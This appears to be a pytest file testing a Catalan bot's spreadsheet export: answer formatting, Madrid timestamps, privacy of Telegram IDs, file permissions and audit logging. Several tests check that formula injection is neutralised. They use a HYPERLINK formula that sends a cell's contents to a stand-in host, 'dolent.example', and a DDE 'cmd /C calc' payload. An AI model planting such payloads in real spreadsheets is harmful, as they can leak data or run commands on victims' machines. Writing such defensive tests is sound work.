"""The spreadsheet, reopened: every answer in words, and no cell that a spreadsheet would calculate."""

from __future__ import annotations

import json
import stat
from collections.abc import Iterator
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import text
from typer.testing import CliRunner

from bot import spreadsheet
from bot.cli import app
from conversations.forms.application import QUESTIONS
from conversations.protocol.facts import Role
from conversations.rules.deadlines import MADRID
from storage import exporting
from storage.database import engine_for, reading
from tests import packages
from tests.conversation import ANSWERS, Conversation, Somebody

AINA = 1001
OFFICE = 2001
FORMULA = '=HYPERLINK("http://dolent.example?"&A1,"Premeu aquí")'


@pytest.fixture
def talk(tmp_path: Path) -> Iterator[Conversation]:
    conversation = Conversation(tmp_path)
    yield conversation
    conversation.close()


@pytest.fixture
def environment(tmp_path: Path, talk: Conversation) -> dict[str, str]:
    return {
        "XMESS_DATABASE_URL": f"sqlite:///{tmp_path / 'bot.sqlite3'}",
        "XMESS_CONTROLLER_NAME": "l'entitat responsable",
        "XMESS_BOT_TOKEN": "",
    }


def sent(talk: Conversation) -> Somebody:
    person = Somebody(talk, AINA, "Aina Soler")
    person.opens("l'Alzinar")
    person.answers_until(13)
    person.sends_application()
    return person


def answers_now(talk: Conversation, question: str, value: str) -> None:
    """Puts an answer in the database that the form would doubt."""
    with talk.connection.begin():
        statement = text("update answer set value = :value where question = :question")
        talk.connection.execute(statement, {"value": json.dumps(value), "question": question})


def exported(file: Path, environment: dict[str, str], *more: str) -> str:
    result = CliRunner().invoke(app, ["export", str(file), *more], env=environment)
    assert result.exit_code == 0, result.output
    return result.output


def rows(file: Path, sheet: str) -> list[dict[str, Any]]:
    book = load_workbook(file)
    head, *body = book[sheet].iter_rows()
    return [{str(name.value): cell for name, cell in zip(head, row, strict=True)} for row in body]


def test_application_is_a_row_with_every_answer_in_words(
    talk: Conversation, tmp_path: Path, environment: dict[str, str]
) -> None:
    sent(talk)
    exported(tmp_path / "x.xlsx", environment)
    (row,) = rows(tmp_path / "x.xlsx", "Sol·licituds")
    assert row["Número"].value == "2020-1-001"
    assert row["Títol"].value == ANSWERS["title"]
    assert row["Adreça electrònica"].value == ANSWERS["email"]
    assert row["Modalitat"].value == "a distància"
    assert row["Temes"].value == "compra responsable, jovent"
    assert row["Autoritza compartir-la"].value == "sí"
    assert len(row) == 12 + len(QUESTIONS)


def test_times_are_those_of_madrid(talk: Conversation, tmp_path: Path, environment: dict[str, str]) -> None:
    sent(talk)
    exported(tmp_path / "x.xlsx", environment)
    (row,) = rows(tmp_path / "x.xlsx", "Sol·licituds")
    assert row["Enviada"].value == datetime(2020, 5, 5, 9, 30)  # noqa: DTZ001
    assert row["Enviada"].number_format == "dd/mm/yyyy hh:mm"


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_text_that_begins_like_a_formula_is_text(
    talk: Conversation, tmp_path: Path, environment: dict[str, str], start: str
) -> None:
    title = start + FORMULA[1:]
    sent(talk)
    answers_now(talk, "title", title)
    exported(tmp_path / "x.xlsx", environment)
    (row,) = rows(tmp_path / "x.xlsx", "Sol·licituds")
    cell = row["Títol"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (title, "s", True)


@pytest.mark.parametrize("said", ["\tcmd|' /C calc'!A0", "\r=1+1", "=1\x00\x1b+1"])
def test_control_characters_neither_break_nor_calculate(said: str, tmp_path: Path) -> None:
    book = Workbook(write_only=True)
    sheet = book.create_sheet("prova")
    sheet.append([spreadsheet._cell(sheet, said)])
    book.save(tmp_path / "x.xlsx")
    (cell,) = next(load_workbook(tmp_path / "x.xlsx")["prova"].iter_rows())
    assert cell.data_type == "s"
    assert cell.quotePrefix


def test_every_sheet_is_there_with_its_rows(talk: Conversation, tmp_path: Path, environment: dict[str, str]) -> None:
    talk.seats(OFFICE, Role.OFFICE)
    person = sent(talk)
    person.says("/ajuda")
    person.presses("Escriu a l'Oficina Tècnica")
    person.says("Podem ser dos ajuntaments?")
    exported(tmp_path / "x.xlsx", environment)
    file = tmp_path / "x.xlsx"
    assert load_workbook(file).sheetnames == [
        "Sol·licituds", "Dades que falten", "Contactes", "Consultes", "Membres", "Bosses d'hores",
        "Sessions", "Paquets",
    ]  # fmt: skip
    contact = next(row for row in rows(file, "Contactes") if row["Nom a Telegram"].value == "Aina Soler")
    assert contact["Adreça electrònica"].value == ANSWERS["email"]
    assert [row["Pregunta"].value for row in rows(file, "Consultes")] == ["Podem ser dos ajuntaments?"]
    hours = {row["Tipus de servei"].value: row["Hores de la bossa"].value for row in rows(file, "Bosses d'hores")}
    assert sorted(hours.values()) == [8, 28]
    assert len(rows(file, "Membres")) > 30


def test_telegram_numbers_do_not_go_out(talk: Conversation, tmp_path: Path, environment: dict[str, str]) -> None:
    person = Somebody(talk, 7_310_045_821, "Xènia Nadal")
    person.opens("l'Alzinar")
    person.answers_until(3)
    exported(tmp_path / "x.xlsx", environment)
    book = load_workbook(tmp_path / "x.xlsx")
    said = [str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row]
    assert "Xènia Nadal" in said
    assert all("7310045821" not in one for one in said)


def test_more_applications_than_a_piece_all_come_in_order(
    talk: Conversation, tmp_path: Path, environment: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exporting, "PIECE", 2)
    for number, council in enumerate(("l'Alzinar", "Puigferrer", "el Comellar", "Salt", "Arbúcies"), start=1):
        person = Somebody(talk, number, f"Persona {number}")
        person.opens(council)
        person.answers_until(3)
        talk.passes(minutes=1)
    exported(tmp_path / "x.xlsx", environment)
    assert len(rows(tmp_path / "x.xlsx", "Sol·licituds")) == 5


def test_file_that_is_there_is_not_replaced_unasked(
    talk: Conversation, tmp_path: Path, environment: dict[str, str]
) -> None:
    file = tmp_path / "x.xlsx"
    file.write_text("meu")
    result = CliRunner().invoke(app, ["export", str(file)], env=environment)
    assert result.exit_code == 1
    assert "--force" in result.output
    assert file.read_text() == "meu"
    exported(file, environment, "--force")
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert not list(tmp_path.glob("*.part"))


def test_export_is_noted_in_the_audit_log(talk: Conversation, tmp_path: Path, environment: dict[str, str]) -> None:
    exported(tmp_path / "x.xlsx", environment)
    assert [row["actor"] for row in talk.rows("select actor from audit where action = 'Export'")] == [0]


def test_export_without_a_database_is_one_clear_line(tmp_path: Path) -> None:
    environment = {"XMESS_DATABASE_URL": f"sqlite:///{tmp_path / 'cap.sqlite3'}"}
    result = CliRunner().invoke(app, ["export", str(tmp_path / "x.xlsx")], env=environment)
    assert result.exit_code == 1
    assert result.output.count("\n") == 1
    assert not (tmp_path / "cap.sqlite3").exists()


def test_export_keeps_no_writer_waiting(talk: Conversation, tmp_path: Path) -> None:
    sent(talk)
    engine = engine_for(f"sqlite:///{tmp_path / 'bot.sqlite3'}?timeout=0")
    with reading(engine) as connection:
        before = list(exporting.applications(connection))
        talk.passes(hours=1)
        Somebody(talk, 5, "Pol").starts()
        assert len(before) == 1
        assert talk.clock.now() - before[0].begun >= timedelta(hours=1)
    engine.dispose()


def test_sessions_and_balances_of_packages_are_those_of_the_ledger(
    talk: Conversation, tmp_path: Path, environment: dict[str, str]
) -> None:
    talk.moves(datetime(2020, 6, 3, 9, 30, tzinfo=MADRID))
    talk.seats(AINA, Role.CONTACT, "l'Alzinar")
    profile = packages.mentor(talk, 5001, "Martí Solanelles", "Puigferrer")
    packages.joined(talk, packages.granted(talk, "l'Alzinar"), profile)
    marti, aina = Somebody(talk, 5001, "Martí"), Somebody(talk, AINA, "Aina")
    marti.says("Ahir 2h amb l'Alzinar, en línia: =clàusules socials")
    marti.presses("Desa")
    aina.presses("Sí, confirma-la")
    marti.says("dilluns hora i mitja amb l'Alzinar")
    marti.presses("Desa")
    exported(tmp_path / "x.xlsx", environment)
    pending, confirmed = rows(tmp_path / "x.xlsx", "Sessions")
    assert (confirmed["Dia"].value.date(), confirmed["Hores"].value) == (date(2020, 6, 2), 2)
    assert confirmed["Hores confirmades"].value == 2
    assert confirmed["Qui l'acompanya"].value == "Martí Solanelles (Puigferrer)"
    assert (pending["Hores confirmades"].value, pending["Hores per confirmar"].value) == (0, 1.5)
    (package,) = rows(tmp_path / "x.xlsx", "Paquets")
    figures = ("Hores concedides", "Hores confirmades", "Hores per confirmar", "Hores que queden")
    assert [package[name].value for name in figures] == [4, 2, 1.5, 0.5]
